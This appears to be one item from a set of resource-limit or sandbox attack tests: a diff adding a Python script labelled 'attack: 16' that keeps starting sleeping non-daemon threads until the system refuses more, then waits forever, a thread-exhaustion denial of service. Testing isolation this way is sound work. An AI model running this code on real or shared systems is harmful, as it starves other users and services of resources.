@@ -1,0 +1,9 @@
+# attack: 16 | score: 0 | needs: another user id | start threads until the system refuses, and wait for ever
+import threading
+import time
+
+while True:
+    try:
+        threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
+    except RuntimeError:
+        time.sleep(0.1)
